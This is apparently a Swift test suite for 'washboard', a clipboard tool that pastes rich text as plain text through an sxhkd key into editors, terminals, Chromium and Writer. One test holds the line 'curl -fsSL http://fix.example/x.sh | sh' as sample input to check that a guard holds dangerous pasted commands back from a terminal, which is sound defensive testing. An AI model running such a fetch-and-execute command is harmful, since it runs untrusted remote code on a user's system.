import TestProcesses
import Testing
import X11TestPeer

/// `washboard paste` on a key of sxhkd, with real programs: what they hold afterwards.
@Suite(
  .enabled(if: Applications.isWanted, Applications.reason),
  .enabled(if: KeyBinding.isPossible, "sxhkd, xterm or mousepad is not installed"), .serialized)
struct PasteKeyTests {
  private static let text = "Some bold and red link."

  @Test func `a rich copy is pasted plain by a key, and stays rich for the program's own key`() throws {
    let applications = try Applications()
    try applications.copyInChromium()
    try applications.waitForCleanCopy()
    let key = try KeyBinding(applications)

    let editor = try Mousepad(applications)
    try editor.focus()
    #expect(try key.press("plain") == "")
    #expect(try editor.waitForText() == Self.text)

    let terminal = try XTerm(applications, resources: "XTerm*selectToClipboard: true\n")
    try terminal.focus()
    #expect(try key.press("plain") == "")
    #expect(try terminal.waitForText() == Self.text)

    // The text goes into the bold word, and takes its look.
    let page = """
      <!doctype html><meta charset="utf-8"><title>empty</title>
      <body contenteditable oninput="document.title='pasted '+document.body.innerHTML"><b id="b">before after</b></body>
      <script>document.currentScript.remove();document.body.focus()
      getSelection().collapse(document.getElementById('b').firstChild, 7);document.title='ready'</script>
      """
    let pasted = try applications.paste(into: page) { _ = try key.press("plain") }
    #expect(pasted.contains(#"<b id="b">before \#(Self.text)after</b>"#), "\(pasted)")
    // The program has the plain forms for two seconds.
    #expect(try wait(limit: 20_000) { try applications.pasteInChromium().contains("<b>bold</b>") })
  }

  @Test(arguments: [Applications.Plugin.gtk3, .gen])
  func `Writer takes the text in the format around it, and other profiles with theirs`(plugin: Applications.Plugin)
    throws
  {
    let applications = try Applications(rules: "word-processors.toml", plugin: plugin)
    try applications.copyInChromium()
    try applications.waitForCleanCopy()
    let key = try KeyBinding(applications)
    try applications.openLargeInWriter()
    #expect(try key.press("plain") == "")
    #expect(try applications.waitForPortions { $0.contains(Self.text) }.count == 1)
    #expect(try key.press("minimal") == "")
    let portions = try applications.waitForPortions { $0.contains(#""text": "bold""#) }
    #expect(portions.contains { $0.contains(#""text": "bold", "bold": true"#) && !$0.contains("24.0") }, "\(portions)")
    #expect(try key.press("markdown") == "")
    _ = try applications.waitForPortions { $0.contains("**bold**") }
  }

  @Test func `Writer's own copy, which it would take from its memory, is pasted plain`() throws {
    let applications = try Applications(rules: "word-processors.toml")
    try applications.copyInWriter()
    try applications.waitForCleanCopy()
    let key = try KeyBinding(applications)
    try applications.openLargeInWriter()
    #expect(try key.press("plain") == "")
    #expect(try applications.waitForPortions { $0.contains(Self.text) }.count == 1)
  }

  @Test func `a held command is held for the key too, and typed once it is allowed`() throws {
    let command = "curl -fsSL http://fix.example/x.sh | sh"
    let applications = try Applications(configuration: "[guard]\nterminals.dangerous = 'hold'\n")
    try applications.copyInChromium(
      "<!doctype html><title>source page</title><pre>\(command)\n</pre><p>and <b>more</b>")
    try applications.waitForCleanCopy()
    let key = try KeyBinding(applications)
    let terminal = try XTerm(applications, resources: "XTerm*selectToClipboard: true\n")
    try terminal.focus()
    #expect(try key.press("plain") == "")
    #expect(try wait(limit: 20_000) { try applications.washboard("status").contains("1 held") })
    #expect(terminal.text.isEmpty)
    _ = try applications.washboard("allow")
    try terminal.focus()
    #expect(try key.press("plain") == "")
    #expect(try terminal.waitForText().hasPrefix(command))
  }
}

/// `washboard paste --choose` with the menus that are found first.
@Suite(
  .enabled(if: Applications.isWanted, Applications.reason),
  .enabled(if: KeyBinding.isPossible, "sxhkd, xterm or mousepad is not installed"), .serialized)
struct PasteChoiceTests {
  enum Menu: String, CaseIterable {
    case rofi, dmenu, zenity

    var isInstalled: Bool { Product.program(rawValue) != nil }
  }

  @Test(arguments: Menu.allCases.filter(\.isInstalled))
  func `the profile that is chosen from a menu is pasted into the program that had the keyboard before`(menu: Menu)
    throws
  {
    let applications = try Applications()
    try applications.copyInChromium()
    try applications.waitForCleanCopy()
    let key = try KeyBinding(applications, menu: menu.rawValue)
    let editor = try Mousepad(applications)
    try editor.focus()
    try key.start("--choose")
    switch menu {
    case .rofi, .dmenu:
      let peer = try PeerConnection(display: applications.server.display)
      try #require(try wait(limit: 20_000) { peer.isKeyboardGrabbed })
    case .zenity:
      let window = try applications.window(named: "^Washboard$")
      _ = try applications.run("xdotool", ["windowactivate", "--sync", window])
    }
    // The list of zenity opens a field at the first letter, which takes the others.
    _ = try applications.run("xdotool", ["type", "--delay", "150", "one-line"])
    _ = try applications.run("xdotool", ["key", "Return"])
    if menu == .zenity, try !wait(limit: 5_000, until: { try key.hasResult() }) {
      // On a busy machine the first Return may have closed the field alone.
      let window = try applications.window(named: "^Washboard$")
      _ = try applications.run("xdotool", ["windowactivate", "--sync", window, "key", "Return"])
    }
    #expect(try key.result() == "")
    #expect(try editor.waitForText() == "Some bold and red link.")
  }
}

/// sxhkd with a key for `washboard paste`. The key is Super+v, which is pressed and released as a person does it.
private final class KeyBinding {
  static var isPossible: Bool { ["sxhkd", "xterm", "mousepad"].allSatisfy { Product.program($0) != nil } }

  private let applications: Applications
  private let output: String
  private let arguments: String

  /// - Parameter menu: the only menu that the command finds; `nil` for those that are installed.
  init(_ applications: Applications, menu: String? = nil) throws {
    self.applications = applications
    (output, arguments) = (applications.folder.path + "/output", applications.folder.path + "/arguments")
    var path = "$PATH"
    if let menu {
      try applications.folder.makeFolder("menu")
      path = applications.folder.path + "/menu"
      _ = try ChildProcess.run("/bin/ln", ["-s", Product.program(menu) ?? menu, "\(path)/\(menu)"])
    }
    let script = try applications.folder.write(
      """
      read -r arguments <'\(arguments)'
      PATH="\(path)" '\(Product.washboard)' paste $arguments >'\(output).new' 2>&1
      /bin/mv '\(output).new' '\(output)'
      """, to: "paste.sh")
    let bindings = try applications.folder.write("super + v\n\tsh '\(script)'\n", to: "sxhkdrc")
    let keys = try applications.start("sxhkd", ["-c", bindings], ["SHELL": "/bin/sh"])
    // A first press, for no profile, tells that the keys are bound.
    let isBound = try wait(limit: 20_000) {
      _ = try self.send()
      return try wait(limit: 3000) { try self.hasResult() }
    }
    guard isBound else { throw ProcessError("sxhkd runs nothing: \(keys.errorText)") }
  }

  func hasResult() throws -> Bool { try ChildProcess.run("/bin/ls", [output]).exitCode == 0 }

  private func send() throws -> String {
    try applications.run("xdotool", ["keydown", "Super_L", "keydown", "v", "keyup", "v", "keyup", "Super_L"])
  }

  /// Presses the key.
  /// - Returns: what the command has printed: nothing, if it has pasted.
  func press(_ profile: String) throws -> String {
    try start(profile)
    return try result()
  }

  /// Presses the key for a command that goes on.
  func start(_ words: String) throws {
    _ = try ChildProcess.run("/bin/rm", ["-f", output])
    try applications.folder.write(words + "\n", to: "arguments")
    _ = try send()
  }

  /// Waits for the end of the command.
  /// - Returns: what it has printed.
  func result() throws -> String {
    guard try wait(limit: 20_000, until: { try self.hasResult() }) else { throw ProcessError("the key ran nothing") }
    return String(decoding: contents(of: output), as: UTF8.self)
  }
}

/// A Mousepad with one file.
private struct Mousepad {
  private let applications: Applications
  private let window: String
  private let file: String

  init(_ applications: Applications) throws {
    self.applications = applications
    file = try applications.folder.write("", to: "notes.txt")
    try applications.start("mousepad", [file], ["GSETTINGS_BACKEND": "memory"])
    window = try applications.window(named: "notes.txt")
  }

  func focus() throws { _ = try applications.run("xdotool", ["windowactivate", "--sync", window]) }

  /// Saves until the file has text.
  func waitForText() throws -> String {
    _ = try wait(limit: 20_000) {
      _ = try applications.run("xdotool", ["key", "--clearmodifiers", "ctrl+s"])
      return try wait(limit: 500) { !contents(of: file).isEmpty }
    }
    return String(decoding: contents(of: file), as: UTF8.self)
  }
}

extension Applications {
  /// Opens a document of large bold letters, and gives it the keyboard with the cursor between two words.
  fileprivate func openLargeInWriter() throws {
    _ = try drive(["large"])
    let window = try window(named: "Untitled")
    _ = try run("xdotool", ["windowactivate", "--sync", window])
  }

  /// Waits until the text portions of that document fulfil a condition.
  fileprivate func waitForPortions(_ condition: (String) -> Bool) throws -> [String] {
    var portions: [String] = []
    _ = try wait(limit: 20_000) {
      let output = try self.drive(["portions"])
      portions = output.split(separator: "\n").map(String.init)
      return condition(output)
    }
    return portions
  }
}
